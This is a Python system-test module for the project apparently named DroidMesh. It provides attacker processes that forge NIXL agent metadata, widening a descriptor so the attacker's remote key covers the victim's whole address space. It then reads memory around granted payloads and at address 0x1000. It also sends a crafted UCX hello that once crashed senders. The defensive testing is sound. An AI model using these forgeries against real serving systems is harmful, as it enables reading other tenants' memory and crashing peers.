"""Attackers that speak valid NIXL and UCX, run as separate processes by `test_hostile_peers.py`:
`python -m tests.system.attackers nixl|ucx ADDRESS --context C [--token T] ...` prints one JSON line
of what it got.

  nixl  asks for a grant (with the token given, or none), loads whatever agent metadata it gets,
        then forges a descriptor of the granting agent that covers the whole address space (its
        own agent's partial metadata, renamed and widened, keeping its own remote key) and posts
        READs around the granted payload's address (`--scan` bytes each way), at `--at`
        addresses, and at 0x1000 (`--crash`). It reports every context whose canary
        (`tensor_server --fill canary`) it saw in what it read.
  ucx   sends a well-formed hello whose worker address is its NIXL agent's, then makes an
        endpoint from NIXL's UCX to whatever worker address the sender answers (connection
        metadata built around that address), the wire-up that used to kill a sender.
Both speak the protocol of whichever DroidMesh they import (the one before the sandbox, where
`schemas.NixlConnect` exists, or the one after), so the same attack runs against old code.
Every wait is bounded; nothing is timed.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import re
import struct
import sys
import time
import uuid
from typing import Any

import numpy as np

from droidmesh.shared.transport.nixl import metadata
from droidmesh.shared.transport.nixl.agent import Agent
from droidmesh.shared.wire import schemas
from droidmesh.shared.wire.schemas import PullItem, PullRequest

try:
    from droidmesh.shared.wire.channels import NixlGrant
except ImportError:  # a DroidMesh that defines the channels' messages in `schemas` (OLD's among them)
    NixlGrant = schemas.NixlGrant

CHUNK = 1 << 20
AT_BYTES = 4096
READ_S = 5.0
CANARY = re.compile(rb"droidmesh-canary-(\d+)\|")
OLD = hasattr(schemas, "NixlConnect")  # the protocol before sandboxes: agent info before any grant


def field(tag: bytes, value: bytes) -> bytes:
    """One nixlSerDes field: tag, little-endian u64 length, bytes, "|"."""
    return tag + len(value).to_bytes(8, "little") + value + b"|"


def u64(n: int) -> bytes:
    return n.to_bytes(8, "little")


def conn_metadata(name: str, worker_address: bytes) -> bytes:
    """Connection-only agent metadata naming `worker_address` (as NIXL serialises its own)."""
    return (metadata.MAGIC + field(b"Agent", name.encode()) + field(b"Conns", u64(1)) + field(b"t", b"UCX")
            + field(b"c", worker_address) + field(b"", b"MemSection") + field(b"nixlSecElms", u64(0)))


def forged(own: bytes, victim: str) -> bytes:
    """`own` partial metadata (one descriptor, no connection) as `victim`'s, its descriptor
    widened to [0, 2^62): our own remote key then stands for any address of the victim."""
    f = metadata._Fields(own)
    f.get(b"Agent")
    start = f.at
    f.count(b"Conns", 0)
    f.get(b"")  # MemSection
    f.count(b"nixlSecElms", 1)
    for tag in (b"bknd", b"nixlDList", b"t"):
        f.get(tag)
    f.count(b"n", 1)
    head = own[start:f.at]
    body = bytearray(f.get(b""))  # address, length, device id, then our remote key
    body[0:16] = struct.pack("<QQ", 0, 1 << 62)
    return metadata.MAGIC + field(b"Agent", victim.encode()) + head + field(b"", bytes(body))


async def frame(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, msg: schemas.Message) -> bytes:
    data = schemas.encode(msg)
    writer.write(len(data).to_bytes(4, "big") + data)
    await writer.drain()
    n = int.from_bytes(await asyncio.wait_for(reader.readexactly(4), READ_S), "big")
    return await asyncio.wait_for(reader.readexactly(n), READ_S)


def request(context: str, token: str) -> PullRequest:
    return PullRequest(context_id=context, token=token, items=[PullItem(layer=0, kind="K")], codec="raw",
                       codec_params={}, tokens=0)


async def nixl(address: str, context: str, token: str, scan: int, at: list[int], crash: bool) -> dict[str, Any]:
    report: dict[str, Any] = {"agent_info": False, "granted": False, "metadata_bytes": 0, "connected": False,
                              "reads_done": 0, "reads_failed": 0, "found": [], "where": {}, "at": {}}
    host, port = address.rsplit(":", 1)
    reader, writer = await asyncio.open_connection(host, int(port))
    agent = Agent("attacker")
    await agent.start()
    conn_md, near = b"", None
    if OLD:
        info = schemas.decode(await frame(reader, writer, schemas.NixlConnect()), schemas.NixlAgentInfo)
        conn_md, report["agent_info"] = info.metadata, True
    grant = schemas.decode(await frame(reader, writer, request(context, token)), NixlGrant)
    report["granted"], report["metadata_bytes"] = not grant.response.error, len(grant.metadata)
    if grant.regions:
        near = grant.regions[0].addr
    if not conn_md and grant.metadata:
        conn_md = grant.metadata
    if not conn_md:
        return report  # nothing names an agent to read from
    buf = np.zeros(CHUNK, dtype=np.uint8)

    def setup() -> str:
        name = agent.load(conn_md)
        if grant.metadata and OLD:
            agent.load(grant.metadata)
        agent.connect(name)
        agent.register([(buf.ctypes.data, CHUNK)])
        agent.load(forged(agent.metadata([(buf.ctypes.data, CHUNK)], False), name))
        return name

    victim = await agent.call(setup)
    report["connected"] = True
    targets = [(a, "at") for a in at]  # AT_BYTES each: a known address, read exactly
    if near is not None:  # windows of CHUNK, the first centred on the granted payload, then outwards
        for k in range(-(scan // CHUNK), scan // CHUNK + 1):
            targets.append((max(near - CHUNK // 2 + k * CHUNK, 0), "scan"))
        targets.sort(key=lambda t: abs(t[0] - near))
    if crash:
        targets.append((0x1000, "crash"))
    found: set[str] = set()
    for addr, why in targets:
        if await read(agent, buf, addr, AT_BYTES if why == "at" else CHUNK, victim):
            report["reads_done"] += 1
            for m in CANARY.finditer(buf.tobytes()):
                found.add(m.group(1).decode())
                report["where"].setdefault(m.group(1).decode(), hex(addr + m.start()))
            if why == "at":
                report["at"][hex(addr)] = buf[:64].tobytes().hex()
        else:
            report["reads_failed"] += 1
    report["found"] = sorted(found)
    return report


async def read(agent: Agent, buf: np.ndarray, addr: int, nbytes: int, victim: str) -> bool:
    """One READ of `nbytes` at `addr` of the victim into `buf`: whether it completed."""
    buf[:] = 0
    try:
        handle, state = await agent.call(agent.read, [(buf.ctypes.data, nbytes)], [(addr, nbytes)], victim)
    except Exception:
        return False
    deadline = time.monotonic() + READ_S
    while state == "PROC" and time.monotonic() < deadline:
        await asyncio.sleep(0.01)
        try:
            state = await agent.call(agent.state, handle)
        except Exception:  # the victim went away (NIXL_ERR_REMOTE_DISCONNECT)
            state = "ERR"
    try:
        await agent.call(agent.release, handle)
    except Exception:
        pass
    return state == "DONE"


async def ucx(address: str, context: str, token: str, hello_from: str) -> dict[str, Any]:
    """`hello_from`: whose worker address the hello carries, NIXL's UCX (one the sender's own
    ucxx cannot reach) or a ucxx worker of ours (one it can: the wire-up then completes)."""
    report: dict[str, Any] = {"refused": None, "sender_address": False, "connected": False}
    agent = Agent("attacker")
    await agent.start()
    if hello_from == "nixl":
        own = metadata.own_address(await agent.call(agent.metadata, [], True))  # a real UCX worker address
    else:
        from droidmesh.shared.transport.ucx import ucxx

        own = bytes(ucxx().get_worker_address().tobytes())
    host, port = address.rsplit(":", 1)
    reader, writer = await asyncio.open_connection(host, int(port))
    if OLD:
        writer.write(struct.pack(">4sQI", b"DMU1", 7, len(own)) + own)
        magic, _, n = struct.unpack(">4sQI", await asyncio.wait_for(reader.readexactly(16), READ_S))
        peer = await asyncio.wait_for(reader.readexactly(n), READ_S)
    else:
        from droidmesh.shared.transport.ucx import wireup

        writer.write(wireup.hello(7, own, schemas.encode(request(context, token))))
        try:
            welcome = await asyncio.wait_for(wireup.read_welcome(reader), READ_S)
        except (asyncio.IncompleteReadError, ConnectionError):
            report["refused"] = "closed without a welcome"
            return report
        report["refused"] = welcome.error
        if welcome.error:
            return report
        peer = welcome.address
    report["sender_address"] = True
    name = f"victim-{uuid.uuid4().hex[:8]}"

    def wire() -> None:
        agent.load(conn_metadata(name, peer))
        agent.connect(name)

    try:
        await agent.call(wire)
        report["connected"] = True
    except Exception as e:
        report["connected"] = f"{type(e).__name__}: {e}"[:200]
    await asyncio.sleep(2.0)  # UCX's wire-up with the victim runs on its progress thread
    return report


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.system.attackers")
    parser.add_argument("channel", choices=("nixl", "ucx"))
    parser.add_argument("address")
    parser.add_argument("--context", required=True)
    parser.add_argument("--token", default="")
    parser.add_argument("--scan", type=int, default=0, help="bytes read each way around the granted payload")
    parser.add_argument("--at", type=lambda s: int(s, 0), action="append", default=[])
    parser.add_argument("--crash", action="store_true")
    parser.add_argument("--hello-from", choices=("nixl", "ucxx"), default="nixl")
    args = parser.parse_args(argv)
    if args.channel == "nixl":
        out = asyncio.run(nixl(args.address, args.context, args.token, args.scan, args.at, args.crash))
    else:
        out = asyncio.run(ucx(args.address, args.context, args.token, args.hello_from))
    print("ATTACK=" + json.dumps(out), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
